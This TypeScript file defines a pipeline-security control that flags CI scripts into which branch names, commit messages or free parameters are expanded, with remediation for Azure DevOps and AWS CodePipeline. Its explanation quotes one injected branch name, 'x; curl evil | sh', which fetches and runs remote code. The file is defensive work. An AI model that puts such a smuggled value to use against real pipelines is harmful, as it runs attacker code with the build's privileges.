import {
  defineControl,
  fail,
  pass,
} from 'backstage-plugin-pipeline-posture-node';

const EXPECTED =
  'Text that others choose reaches scripts through environment variables only.';

/**
 * No text of somebody's choice is pasted into a script.
 *
 * @public
 */
export const noUntrustedTextInAShell = defineControl({
  id: 'no-untrusted-text-in-a-shell',
  title: 'No text of others is pasted into a script',
  dimension: 'input-validation',
  severity: 'high',
  lifecycle: 'active',
  answers: ['BP7-7', 'AZS-8'],
  why:
    'Names of branches, commit messages and free parameters are pasted into the script before the shell reads it. ' +
    'An attacker names a branch "x; curl evil | sh", and the build runs it with its identity. ' +
    'As an environment variable the same text stays text.',
  measure:
    'Looks at every script and script argument of the pipeline. ' +
    'Fails if a predefined variable that outsiders choose (branch name, commit message) or a free-text parameter is expanded inside one. ' +
    'Passes if none is. Unknown if the code of the pipeline cannot be read.',
  actor: 'service-owner',
  remediation: {
    'azure-devops': {
      docsUrl:
        'https://learn.microsoft.com/azure/devops/pipelines/security/inputs',
      steps: [
        'Map the value to an environment variable with env: in the step.',
        'Use that variable in the script, in quotes: "$BRANCH".',
        'Give parameters a list of allowed values.',
        'Turn on "Enable shell tasks arguments validation" in the project settings.',
      ],
    },
    'aws-codepipeline': {
      docsUrl:
        'https://docs.aws.amazon.com/codepipeline/latest/userguide/reference-variables.html',
      steps: [
        'Pass the variable to the action as an environment variable.',
        'Use that variable in the commands, in quotes.',
        'Add a VariableCheck rule that limits its values.',
      ],
      cli: `aws codepipeline get-pipeline --name <pipeline> --query '{pipeline:pipeline}' > pipeline.json
# Give the text to the action as an environment variable, and use it in quotes: "$MESSAGE".
aws codepipeline update-pipeline --cli-input-json file://pipeline.json`,
      terraform: `# In the action: the text arrives as a variable, which the shell does not run.
configuration = {
  ProjectName = "<project>"
  EnvironmentVariables = jsonencode([
    { name = "MESSAGE", value = "#{SourceVariables.CommitMessage}", type = "PLAINTEXT" },
  ])
}`,
      template: {
        language: 'cloudformation',
        code: `# In the action: the text arrives as a variable, which the shell does not run.
Commands:
  - printf '%s\\n' "$MESSAGE"
EnvironmentVariables:
  - Name: MESSAGE
    Value: '#{SourceVariables.CommitMessage}'`,
      },
    },
  },
  needs: ['injections'],
  evaluate({ injections }, { pipeline }) {
    if (injections.length === 0) {
      return [
        pass({
          subject: `pipeline ${pipeline.name}`,
          observed:
            'No script of this pipeline has text of others pasted into it.',
          expected: EXPECTED,
        }),
      ];
    }
    return injections.map(({ expression, where, location }) =>
      fail({
        subject: where,
        observed: `${expression} is pasted into the ${where}.`,
        expected: EXPECTED,
        evidence: [{ source: 'pipeline code', observed: expression, location }],
      }),
    );
  },
});
